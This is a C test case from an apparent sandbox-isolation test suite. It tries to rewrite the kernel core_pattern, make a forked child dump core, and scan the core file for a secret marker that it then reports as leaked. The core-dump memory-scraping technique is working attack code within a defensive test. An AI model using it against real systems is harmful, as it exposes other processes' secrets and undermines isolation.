/* class: system_calls
 * source: core(5)
 * tries: to have a child dump core and to read the secret in the file
 * must: not have the victim's memory in a core file that the attacker caused
 * expect: succeeds until system calls are contained */
#include "attack.h"
#include <sys/prctl.h>
#include <sys/resource.h>

ATTACK
{
    struct rlimit most = {RLIM_INFINITY, RLIM_INFINITY};
    int status, child;
    char name[64];
    static char bytes[1 << 20];
    SYS(SYS_prctl, PR_SET_DUMPABLE, 1);
    SYS(SYS_setrlimit, RLIMIT_CORE, &most);
    int pattern = SYS(SYS_open, "/proc/sys/kernel/core_pattern", O_WRONLY);
    SYS(SYS_write, pattern, "/tmp/core.%p", 12);
    child = SYS(SYS_fork);
    if (!child)
        SYS(SYS_kill, SYS(SYS_getpid), SIGQUIT);
    SYS(SYS_wait4, child, &status, 0);
    snprintf(name, sizeof name, "/tmp/core.%d", child);
    int file = SYS(SYS_open, name, O_RDONLY);
    long n;
    while ((n = SYS(SYS_read, file, bytes, sizeof bytes)) > 0)
        for (long i = 0; i + 16 < n; i++)
            if (!memcmp(bytes + i, "SEKRIT-", 7) && bytes[i + 10] == '-' &&
                bytes[i + 7] == (victim_key == 1 ? 'a' : 'l')) {
                leak(bytes + i);
                SYS(SYS_unlink, name);
                return;
            }
    SYS(SYS_unlink, name);
}
